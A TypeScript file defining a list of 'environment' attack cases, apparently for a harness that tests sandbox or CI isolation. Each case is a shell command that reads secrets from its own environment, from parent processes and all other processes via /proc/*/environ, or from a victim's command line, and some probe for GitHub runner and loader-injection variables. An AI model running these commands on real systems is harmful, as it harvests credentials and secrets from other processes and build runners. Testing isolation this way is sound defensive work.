import type { Attack } from '../attack.ts'

/** Secrets in environments, its own and others'. */
export const environment: Attack[] = [
  { id: 'env-own', shell: 'env', weak: 'root' },
  { id: 'env-own-file', shell: 'cat /proc/self/environ /proc/thread-self/environ', weak: 'root' },
  {
    id: 'env-parents',
    shell: 'p=$$; while [ "$p" -gt 0 ]; do cat "/proc/$p/environ"; p=$(ps -o ppid= -p "$p"); done',
    weak: 'root',
  },
  { id: 'env-others', shell: 'cat /proc/[0-9]*/environ', weak: 'root' },
  { id: 'env-victim', shell: 'cat /proc/$VICTIM/environ /proc/$VICTIM/task/*/environ', weak: 'root' },
  {
    id: 'env-runner-names',
    shell: 'env | grep -qE "^(GITHUB|ACTIONS|INPUT|RUNNER_TEMP|ALL_INPUTS)" && won',
    weak: 'root',
  },
  { id: 'env-arguments', shell: 'tr "\\0" " " < /proc/$VICTIM/cmdline | grep -q lab- && won', weak: 'root' },
  { id: 'env-loaders', shell: 'env | grep -qE "^(NODE_OPTIONS|LD_PRELOAD|BASH_ENV)=" && won', weak: 'root' },
]
